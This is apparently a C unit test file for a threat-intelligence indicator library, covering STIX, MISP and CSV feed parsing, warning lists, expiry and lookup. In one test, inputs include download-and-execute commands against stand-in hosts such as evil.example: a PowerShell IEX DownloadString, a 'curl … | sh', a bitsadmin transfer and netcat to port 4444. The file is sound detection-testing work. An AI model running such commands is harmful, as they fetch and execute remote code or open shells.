/* Indicators: read from STIX, MISP, CSV; warning lists; the table; fields of events. */
#include "intel/look.h"
#include "intel/pull.h"
#include "intel/set.h"

#include "check.h"

static struct intel_set set;
static struct buf bytes, listing;
static struct intel_table table;
static char *aligned;

static void begin(int64_t now) {
        struct intel_options o = {.now = now, .list = &listing};

        intel_set_deinit(&set);
        buf_reset(&bytes);
        buf_reset(&listing);
        check(intel_set_init(&set, &o) == 0);
}

static void take(const char *name, const char *text) {
        intel_read(&set, span_str(name), span_str(text));
}

static void finish(void) {
        intel_set_number(&set);
        intel_set_write(&set, &bytes, 3);
        free(aligned);
        aligned = aligned_alloc(64, (bytes.len + 63) & ~(size_t)63);
        check(aligned);
        memcpy(aligned, bytes.p, bytes.len);
        check(intel_table_open(&table, span_of(aligned, bytes.len)) == 0);
}

static unsigned found(enum intel_field field, const char *value) {
        struct intel_found f;

        intel_look(&table, field, span_str(value), &f);
        return f.n;
}

static const char *text_of(enum intel_field field, const char *value) {
        static struct intel_found f, g;

        intel_look(&table, field, span_str(value), &f);
        if (f.n == 0)
                return "";
        return intel_look_text(&table, field, span_str(value), f.entry[0], &g);
}

#define STIX(pattern)                                                                              \
        "{\"type\":\"bundle\",\"objects\":[{\"type\":\"indicator\",\"name\":\"N\","                \
        "\"pattern_type\":\"stix\",\"pattern\":\"" pattern "\"}]}"

static void patterns_become_indicators(void) {
        begin(TIME_NONE);
        take("a.json", STIX("[ipv4-addr:value = '198.51.100.7' OR domain-name:value IN "
                            "('a.example', 'B.Example')]"));
        take("b.json", STIX("[file:name = 'x' AND file:hashes.'SHA-256' = "
                            "'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' "
                            "AND file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']"));
        take("c.json", STIX("[domain-name:value LIKE '%.tree.example'] OR "
                            "[ipv6-addr:value ISSUBSET '2001:db8::/32']"));
        take("d.json", STIX("[network-traffic:dst_ref.type = 'ipv4-addr' AND "
                            "network-traffic:dst_ref.value = '203.0.113.5' AND "
                            "network-traffic:dst_port = 443]"));
        take("e.json", STIX("[network-traffic:extensions.'tls-ext'.ja3_hash = "
                            "'aaaabbbbccccddddaaaabbbbccccdddd']"));
        check_int(set.problems_all, 0);
        check_int(set.counts.kept, 9);
        finish();
        check_int(table.n, 9);
        check_int(found(INTEL_FIELD_HOST, "198.51.100.7"), 1);
        check_int(found(INTEL_FIELD_HOST, "198.51.100.7:443"), 1);
        check_int(found(INTEL_FIELD_HOST, "198.51.100.8"), 0);
        check_int(found(INTEL_FIELD_HOST, "A.example."), 1);
        check_int(found(INTEL_FIELD_HOST, "b.example"), 1);
        check_int(found(INTEL_FIELD_HOST, "x.a.example"), 0); /* not declared for what is below */
        check_int(found(INTEL_FIELD_HOST, "x.y.tree.example"), 1);
        check_span(span_str(text_of(INTEL_FIELD_HOST, "x.y.tree.example")), "tree.example");
        check_int(found(INTEL_FIELD_HOST, "2001:db8:1::5"), 1);
        check_span(span_str(text_of(INTEL_FIELD_HOST, "2001:db8:1::5")), "2001:db8::/32");
        check_int(found(INTEL_FIELD_HOST, "2001:db9::5"), 0);
        check_int(found(INTEL_FIELD_HOSTS, "type: 5 q.example;::ffff:203.0.113.5;"), 1);
        check_int(found(INTEL_FIELD_HASHES, "SHA1=da39a3ee5e6b4b0d3255bfef95601890afd80709,"
                                            "MD5=D41D8CD98F00B204E9800998ECF8427E"),
                  1);
        check_int(found(INTEL_FIELD_HASHES, "IMPHASH=d41d8cd98f00b204e9800998ecf8427e"), 0);
        check_int(found(INTEL_FIELD_JA3, "AAAAbbbbccccddddaaaabbbbccccdddd"), 1);
        check_int(found(INTEL_FIELD_HASH, "aaaabbbbccccddddaaaabbbbccccdddd"), 0);
}

static void what_is_not_supported_is_told(void) {
        static const char *const bad[] = {
                "[domain-name:value = 'a.b' AND ipv4-addr:value = '192.0.2.1']",
                "[domain-name:value MATCHES '.*']",
                "[NOT domain-name:value = 'a.b']",
                "[domain-name:value = 'a.b'] FOLLOWEDBY [url:value = 'http://c.d/']",
                "[domain-name:value = 'a.b'] AND [url:value = 'http://c.d/']",
                "[url:value LIKE '%evil%']",
                "[email-addr:value = 'a@b.c']",
                "[file:name = 'x.exe']",
                "[ipv4-addr:value = '0.0.0.0/0']", /* would match everything */
                "[ipv4-addr:value = ",
                "[ipv4-addr:value = '1.2.3.400']",
                "",
        };

        for (size_t i = 0; i < ARRAY_LEN(bad); i++) {
                struct intel_raw raw = {.confidence = -1, .since = TIME_NONE, .until = TIME_NONE};
                begin(TIME_NONE);
                set.feeds[0].name = SPAN("f");
                set.n_feeds = 1;
                intel_pattern(&set, span_str(bad[i]), &raw, 7);
                check_int(set.counts.kept, 0);
                check_int(set.problems_all, 1);
                check_int(set.problems[0].line, 7);
        }
}

static void ends_are_kept(void) {
        int64_t now = time_parse_iso(SPAN("2026-11-23T00:00:00Z"), 0);

        begin(now);
        set.o.expiry = INT64_C(90) * 86400 * NS_PER_SEC;
        take("a.csv", "type,value,name,valid_from,valid_until\n"
                      "ip,192.0.2.1,over,,2026-11-22\n"
                      "ip,192.0.2.2,lives,,2026-12-01\n"
                      "ip,192.0.2.3,old,2026-01-01,\n"
                      "ip,192.0.2.4,young,2026-11-01,\n"
                      "ip,192.0.2.5,no date,,\n"
                      "ip,192.0.2.6,wrong date,,soon\n");
        check_int(set.counts.expired, 2);
        check_int(set.counts.malformed, 1);
        check_int(set.counts.kept, 3);
        check_int(set.problems[0].line, 7);
        finish();
        struct intel_found f;
        intel_look(&table, INTEL_FIELD_HOST, SPAN("192.0.2.2"), &f);
        check_int(f.n, 1);
        check_int(table.entries[f.entry[0]].expires,
                  time_parse_iso(SPAN("2026-12-01T00:00:00Z"), 0) / NS_PER_SEC);
        check_span(intel_table_name(&table, &table.entries[f.entry[0]]), "lives");
        check_int(found(INTEL_FIELD_HOST, "192.0.2.1"), 0);
}

static void events_of_misp_are_read(void) {
        begin(TIME_NONE);
        take("feed/5a7e0000-0000-4000-8000-000000000001.json",
             "{\"Event\":{\"Attribute\":["
             "{\"type\":\"ip-dst|port\",\"value\":\"192.0.2.9|8080\",\"to_ids\":true},"
             "{\"type\":\"domain\",\"value\":\"evil.example\",\"to_ids\":\"1\"},"
             "{\"type\":\"hostname\",\"value\":\"h.other.example\",\"to_ids\":true,"
             "\"Tag\":[{\"name\":\"tlp:red\"}]},"
             "{\"type\":\"filename|md5\",\"value\":\"a.exe|d41d8cd98f00b204e9800998ecf8427e\","
             "\"to_ids\":true,\"comment\":\"dropper\"},"
             "{\"type\":\"domain|ip\",\"value\":\"two.example|192.0.2.10\",\"to_ids\":true},"
             "{\"type\":\"comment\",\"value\":\"x\",\"to_ids\":false},"
             "{\"type\":\"yara\",\"value\":\"rule\",\"to_ids\":true},"
             "{\"type\":\"md5\",\"value\":\"short\",\"to_ids\":true}],"
             "\"Object\":[{\"name\":\"url\",\"Attribute\":[{\"type\":\"url\",\"value\":"
             "\"hxxp://u[.]example/p?q=1#f\",\"to_ids\":true}]}],"
             "\"info\":\"Campaign \\u0110\",\"threat_level_id\":\"1\","
             "\"Tag\":[{\"name\":\"tlp:green\"}]}}");
        check_int(set.counts.kept, 7);
        check_int(set.counts.inactive, 1);
        check_int(set.counts.unsupported, 1);
        check_int(set.counts.malformed, 1);
        check_span(set.feeds[0].name, "feed");
        check_int(set.feeds[0].n[INTEL_HIGH], 7); /* threat level 1 */
        finish();
        struct intel_found f;
        intel_look(&table, INTEL_FIELD_HOST, SPAN("www.evil.example"), &f);
        check_int(f.n, 1);
        check_span(intel_table_name(&table, &table.entries[f.entry[0]]), "Campaign \xc4\x90");
        check_int(table.entries[f.entry[0]].tlp, TLP_GREEN);
        check_int(found(INTEL_FIELD_HOST, "x.h.other.example"), 0);
        intel_look(&table, INTEL_FIELD_HOST, SPAN("h.other.example"), &f);
        check_int(f.n, 1);
        check_int(table.entries[f.entry[0]].tlp, TLP_RED);
        check_int(found(INTEL_FIELD_HOST, "192.0.2.9"), 1);
        check_int(found(INTEL_FIELD_HOST, "192.0.2.10"), 1);
        check_int(found(INTEL_FIELD_URL, "https://U.example:443/p?q=1"), 1);
        check_int(found(INTEL_FIELD_URL, "http://u.example/P?q=1"), 0); /* a path has its case */
        intel_look(&table, INTEL_FIELD_HASH, SPAN("D41D8CD98F00B204E9800998ECF8427E"), &f);
        check_int(f.n, 1);
        check_span(intel_table_name(&table, &table.entries[f.entry[0]]), "dropper");
}

static void lists_and_csv_are_read(void) {
        begin(TIME_NONE);
        take("plain.txt",
             "# a comment\n198.51.100.1\n\n*.wild.example\nhxxps://x[.]y[.]example/a b\n"
             "203.0.113.0/24\nnothing\n");
        check_int(set.counts.kept, 4);
        check_int(set.counts.malformed, 1);
        check_int(set.problems[0].line, 7);
        take("quoted.csv", "# \"first_seen\",\"ioc_type\",\"ioc_value\",\"malware_printable\"\n"
                           "\"2026-11-01\", \"ip:port\", \"192.0.2.77:443\", \"Bad, very\"\n"
                           "\"2026-11-01\", \"sha256_hash\", "
                           "\"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\", "
                           "\"two\nlines\"\n"
                           "\"2026-11-01\", \"odd\", \"x\", \"y\"\n");
        check_int(set.counts.kept, 6);
        check_int(set.counts.unsupported, 1);
        check_int(set.problems[1].line, 5);
        take("semi.csv", "entity_type;value;x_opencti_score\nIPv4-Addr;192.0.2.88;90\n");
        check_int(set.counts.kept, 7);
        finish();
        check_int(found(INTEL_FIELD_HOST, "a.wild.example"), 1);
        check_int(found(INTEL_FIELD_HOST, "203.0.113.200"), 1);
        struct intel_found f;
        intel_look(&table, INTEL_FIELD_HOST, SPAN("192.0.2.77"), &f);
        check_int(f.n, 1);
        check_span(intel_table_name(&table, &table.entries[f.entry[0]]), "Bad, very");
        check(memmem(listing.p, listing.len, "x.y.example/a b", 15) != NULL);
}

static void warned_values_are_left_out(void) {
        begin(TIME_NONE);
        intel_read_warnings(&set, SPAN("w1"),
                            SPAN("{\"name\":\"Resolvers\",\"type\":\"cidr\",\"list\":"
                                 "[\"8.8.8.0/24\",\"2001:4860::/32\"]}"));
        intel_read_warnings(&set, SPAN("w2"),
                            SPAN("{\"list\":[\"popular.example\"],\"type\":\"hostname\"}"));
        intel_read_warnings(&set, SPAN("w3"),
                            SPAN("{\"list\":[\"d41d8cd98f00b204e9800998ecf8427e\"],"
                                 "\"type\":\"string\"}"));
        intel_read_warnings(&set, SPAN("w4"),
                            SPAN("{\"list\":[\"/generate_204\"],\"type\":\"substring\"}"));
        check_int(set.problems_all, 0);
        intel_read_warnings(&set, SPAN("w5"), SPAN("{\"list\":[\"^a\"],\"type\":\"regex\"}"));
        check_int(set.problems_all, 1);
        intel_read_warnings(&set, SPAN("w6"), SPAN("{\"list\":[\"a\", }"));
        check_int(set.problems_all, 2);
        take("a.txt", "8.8.8.8\n8.8.0.0/16\nwww.popular.example\nnotpopular.example\n"
                      "http://cdn.popular.example/x\nd41d8cd98f00b204e9800998ecf8427e\n"
                      "http://other.example/generate_204\nhttp://8.8.8.8/evil\n");
        check_int(set.counts.warned, 6);
        check_int(set.counts.kept, 2);
        finish();
        check_int(found(INTEL_FIELD_HOST, "8.8.8.8"), 1); /* by 8.8.0.0/16, which is wider */
        check_int(found(INTEL_FIELD_HOST, "notpopular.example"), 1);
}

static void broken_files_are_told_by_line(void) {
        static const char *const bad[] = {"{\"objects\":[\n{\"type\":\"indicator\",\n",
                                          "[1,2",
                                          "{\"Event\":{\"a\" 1}}",
                                          "{\"x\":1}",
                                          "",
                                          "\x01\x02\0z",
                                          "{\"objects\":[{}]} x"};

        for (size_t i = 0; i < ARRAY_LEN(bad); i++) {
                begin(TIME_NONE);
                take("x.json", bad[i]);
                check(set.problems_all >= 1);
        }
        begin(TIME_NONE);
        take("x.json", bad[0]);
        check_int(set.problems[0].line, 3);
}

static void alike_are_one(void) {
        begin(TIME_NONE);
        take("a.csv", "value,name,confidence,valid_until\nevil.example,low,10,2027-01-01\n");
        take("b.csv", "value,name,confidence,valid_until\nEVIL.example,high,90,2026-12-01\n");
        finish();
        check_int(table.n, 1);
        check_int(set.counts.doubled, 1);
        check_span(intel_table_name(&table, &table.entries[0]), "high");
        check_int(table.entries[0].expires,
                  time_parse_iso(SPAN("2027-01-01T00:00:00Z"), 0) / NS_PER_SEC);
        check_int(table.entries[0].rule, 1);
        check_int(table.n_rules, 2);
}

static void a_large_table_is_exact(void) {
        char text[64];
        unsigned false_ones = 0;
        struct buf csv = {0};

        begin(TIME_NONE);
        set.o.list = NULL;
        for (unsigned i = 0; i < 50000; i++)
                buf_printf(&csv, "10.%u.%u.%u\nh%u.example\n", i >> 14 & 63, i >> 7 & 127, i & 127,
                           i);
        buf_char(&csv, 0);
        take("a.txt", csv.p);
        buf_deinit(&csv);
        check_int(set.counts.kept, 100000);
        finish();
        check(bytes.len <= 100000 * 34 + 256);
        for (unsigned i = 0; i < 50000; i++) {
                snprintf(text, sizeof(text), "10.%u.%u.%u", i >> 14 & 63, i >> 7 & 127, i & 127);
                check_int(found(INTEL_FIELD_HOST, text), 1);
                snprintf(text, sizeof(text), "h%u.example", i);
                check_int(found(INTEL_FIELD_HOST, text), 1);
                snprintf(text, sizeof(text), "n%u.example", i);
                false_ones += found(INTEL_FIELD_HOST, text);
        }
        check_int(false_ones, 0);
}

/* Long values, deep names, much before what counts. */
static void nothing_hides_behind_length(void) {
        struct buf b = {0};

        begin(TIME_NONE);
        take("a.txt", "*.evil.example\nhttp://bad.example/x\nbad.example\n");
        finish();
        for (unsigned i = 0; i < 110; i++)
                buf_str(&b, "a.");
        buf_str(&b, "evil.example");
        buf_char(&b, 0);
        check_int(found(INTEL_FIELD_HOST, b.p), 1);
        buf_reset(&b);
        buf_str(&b, "http://bad.example/");
        for (unsigned i = 0; i < 8000; i++)
                buf_char(&b, 'x');
        buf_char(&b, 0);
        check_int(found(INTEL_FIELD_URL, b.p), 1);
        buf_reset(&b);
        for (unsigned i = 0; i < 1500; i++)
                buf_str(&b, "10.0.0.1;");
        buf_str(&b, "bad.example");
        buf_char(&b, 0);
        check_int(found(INTEL_FIELD_HOSTS, b.p), 1);
        buf_deinit(&b);
        check_int(found(INTEL_FIELD_URL, "http://good.example@bad.example:8080/"), 1);
        check_int(found(INTEL_FIELD_URL, "http://bad.example@good.example/"), 0);
}

/* Commands and scripts: what stands in them, between whatever. */
static void texts_are_walked_through(void) {
        static const struct {
                const char *text;
                unsigned n;
        } cases[] = {
                {"powershell -c \"IEX (New-Object "
                 "Net.WebClient).DownloadString('http://evil.example"
                 "/a.ps1')\"",
                 1}, /* the URL */
                {"curl -s HTTP://Evil.Example:80/a.ps1|sh", 1},
                {"curl http://evil.example/a.ps1; true", 1},
                {"see http://evil.example/a.ps1.", 1},
                {"see http://evil.example/b.ps1.", 0},
                {"wget https://user:pw@x.tree.example/q?a=b&c=d", 1}, /* the name */
                {"nslookup q1.tree.example 10.0.0.1", 1},
                {"ping -n 1 198.51.100.7", 1},
                {"ping -n 1 198.51.100.70", 0},
                {"net use z: \\\\198.51.100.7\\share", 1},
                {"net use z: \\\\bad.example@8080\\davwww", 1},
                {"ssh root@bad.example -p 22", 1},
                {"bitsadmin /transfer n bad.example:8080/x c:\\x.exe", 1},
                {"set a=bad.example&&echo", 1},
                {"echo bad.example.", 1},
                {"echo notbad.example bad.example.com bad-example", 0},
                {"nc 2001:db8::5 4444; nc [2001:db8::5]:99", 1},
                {"nc 2001:db8::6", 0},
                {"curl http://[2001:db8::5]:8080/x?u=http://evil.example/a.ps1", 2},
                {"connect 198.51.100.7:443,bad.example q.tree.example", 3},
                {"C:\\Windows\\System32\\cmd.exe /c dir a.txt", 0},
                {"http://", 0},
                {"://evil.example/a.ps1", 1},
                {"", 0},
        };

        begin(TIME_NONE);
        take("a.txt", "http://evil.example/a.ps1\n*.tree.example\nbad.example\n198.51.100.7\n"
                      "2001:db8::5\n");
        finish();
        for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
                unsigned n = found(INTEL_FIELD_TEXT, cases[i].text);
                if (n != cases[i].n)
                        printf("# %s\n", cases[i].text);
                check_int(n, cases[i].n);
        }
        check_span(span_str(text_of(INTEL_FIELD_TEXT, "curl http://evil.example/a.ps1;")),
                   "evil.example/a.ps1");
        /* Padding hides nothing that a command line has room for. */
        struct buf b = {0};
        for (unsigned i = 0; i < 4000; i++)
                buf_str(&b, "a.b c.d ");
        buf_str(&b, "bad.example");
        buf_char(&b, 0);
        check_int(found(INTEL_FIELD_TEXT, b.p), 1);
        buf_deinit(&b);
}

/* Names that are not ASCII are what they are on the wire, however either side writes them. */
static void names_of_all_scripts(void) {
        static const char *const same[] = {
                "t\u00ean-mi\u1ec1n-\u0111\u1ed9c.example", /* composed */
                "T\u00caN-MI\u1ec0N-\u0110\u1ed8C.example",
                "te\u0302n-mie\u0302\u0300n-\u0111o\u0323\u0302c.example", /* decomposed */
                "xn--tn-min-c-86aw80pxl1a5e9b.example",
        };
        char wire[300];

        begin(TIME_NONE);
        take("a.csv", "type,value\ndomain,t\u00ean-mi\u1ec1n-\u0111\u1ed9c.example\n"
                      "url,http://b\u00fccher.example/\u00e4\n");
        finish();
        snprintf(wire, sizeof(wire), "%s", text_of(INTEL_FIELD_HOST, same[0]));
        check(strncmp(wire, "xn--", 4) == 0);
        for (size_t i = 0; i < 3; i++)
                check_int(found(INTEL_FIELD_HOST, same[i]), 1);
        check_int(found(INTEL_FIELD_HOST, wire), 1);
        check_int(found(INTEL_FIELD_HOST, "ten-mien-doc.example"), 0);
        check_int(found(INTEL_FIELD_URL, "https://xn--bcher-kva.example/\u00e4"), 1);
        check_int(found(INTEL_FIELD_URL, "https://B\u00dcCHER.example/\u00e4"), 1);
        check_int(found(INTEL_FIELD_TEXT, "curl 'http://b\u00fccher.example/\u00e4'"), 1);
        /* No UTF-8, or no name for IDNA: as it comes. */
        begin(TIME_NONE);
        take("a.csv", "type,value\ndomain,a\u200b.example\n");
        check_int(set.counts.kept, 1);
        finish();
        check_int(found(INTEL_FIELD_HOST, "\xff\xfe.example"), 0);
        /* The same name told in two forms is one; a warning list has it in either. */
        begin(TIME_NONE);
        take("a.txt", "b\u00fccher.example\nxn--bcher-kva.example\n");
        finish();
        check_int(table.n, 1);
        begin(TIME_NONE);
        intel_read_warnings(&set, SPAN("w.json"),
                            SPAN("{\"name\":\"w\",\"type\":\"hostname\","
                                 "\"list\":[\"b\u00fccher.example\"]}"));
        take("a.txt", "xn--bcher-kva.example\nwww.b\u00fccher.example\n");
        check_int(set.counts.warned, 2);
}

/* The first bits decide whether a value is looked up at all: never wrongly. */
static void leads_leave_nothing_out(void) {
        char text[64];

        begin(TIME_NONE);
        take("a.txt", "10.0.0.0/9\n172.16.5.0/24\n192.168.0.0/16\n2001:db8::/20\n2a00:1:2::/48\n");
        finish();
        for (unsigned i = 0; i < 128; i++) {
                snprintf(text, sizeof(text), "10.%u.3.4", i);
                check_int(found(INTEL_FIELD_HOST, text), 1);
                snprintf(text, sizeof(text), "10.%u.3.4", i + 128);
                check_int(found(INTEL_FIELD_HOST, text), 0);
        }
        check_int(found(INTEL_FIELD_HOST, "172.16.5.9"), 1);
        check_int(found(INTEL_FIELD_HOST, "172.16.6.9"), 0);
        check_int(found(INTEL_FIELD_HOST, "192.168.255.9"), 1);
        check_int(found(INTEL_FIELD_HOST, "2001:fff::1"), 1);
        check_int(found(INTEL_FIELD_HOST, "2001:1000::1"), 0);
        check_int(found(INTEL_FIELD_HOST, "2a00:1:2:3::1"), 1);
        check_int(found(INTEL_FIELD_HOST, "2a00:1:3::1"), 0);
        /* A URL by an address. */
        begin(TIME_NONE);
        take("a.txt", "http://203.0.113.5/x\nhttp://[2001:db8::5]:8080/y\n");
        finish();
        check_int(found(INTEL_FIELD_URL, "http://203.0.113.5/x"), 1);
        check_int(found(INTEL_FIELD_URL, "http://203.0.113.6/x"), 0);
        check_int(found(INTEL_FIELD_URL, "http://[2001:DB8::5]:8080/y"), 1);
        check_int(found(INTEL_FIELD_PATH, "203.0.113.5/x"), 1);
}

static void no_byte_of_a_table_can_hurt(void) {
        begin(TIME_NONE);
        take("a.txt", "198.51.100.7 \nevil.example\nhttp://a.example/x\n"
                      "d41d8cd98f00b204e9800998ecf8427e\n");
        finish();
        for (size_t i = 0; i < bytes.len; i++) {
                struct intel_table saved = table;
                struct intel_found f, g;

                aligned[i] ^= (char)(0x41 + i);
                if (intel_table_open(&table, span_of(aligned, bytes.len)) == 0) {
                        intel_look(&table, INTEL_FIELD_URL, SPAN("http://evil.example/x"), &f);
                        for (uint32_t k = 0; k < f.n; k++) {
                                (void)intel_table_name(&table, &table.entries[f.entry[k]]);
                                (void)intel_look_text(&table, INTEL_FIELD_URL,
                                                      SPAN("http://evil.example/x"), f.entry[k],
                                                      &g);
                        }
                }
                aligned[i] ^= (char)(0x41 + i);
                table = saved;
        }
        for (size_t len = 0; len < bytes.len; len++)
                check(intel_table_open(&table, span_of(aligned, len)) == -EBADMSG);
}

int main(void) {
        RUN(patterns_become_indicators);
        RUN(what_is_not_supported_is_told);
        RUN(ends_are_kept);
        RUN(events_of_misp_are_read);
        RUN(lists_and_csv_are_read);
        RUN(warned_values_are_left_out);
        RUN(broken_files_are_told_by_line);
        RUN(alike_are_one);
        RUN(a_large_table_is_exact);
        RUN(nothing_hides_behind_length);
        RUN(texts_are_walked_through);
        RUN(names_of_all_scripts);
        RUN(leads_leave_nothing_out);
        RUN(no_byte_of_a_table_can_hurt);
        intel_set_deinit(&set);
        buf_deinit(&bytes);
        buf_deinit(&listing);
        free(aligned);
        return check_done();
}
